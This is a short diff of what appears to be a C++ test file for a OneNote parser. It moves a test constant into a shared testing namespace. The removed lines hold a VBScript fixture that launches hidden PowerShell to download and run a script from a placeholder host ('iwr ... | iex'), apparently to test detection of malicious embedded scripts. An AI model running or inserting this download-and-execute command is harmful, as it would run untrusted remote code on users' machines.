@@ -21,9 +21,7 @@ using onenote::testing::kHeader;
 using onenote::testing::le;
 using onenote::testing::section;
 
-const std::string kScript =
-    "Set shell = CreateObject(\"WScript.Shell\")\r\n"
-    "shell.Run \"powershell -w hidden -c iwr https://cdn.example/a.ps1 | iex\", 0\r\n";
+using onenote::testing::kScript;
 
 std::string png() {
   return std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16) + std::string(40, 'p');
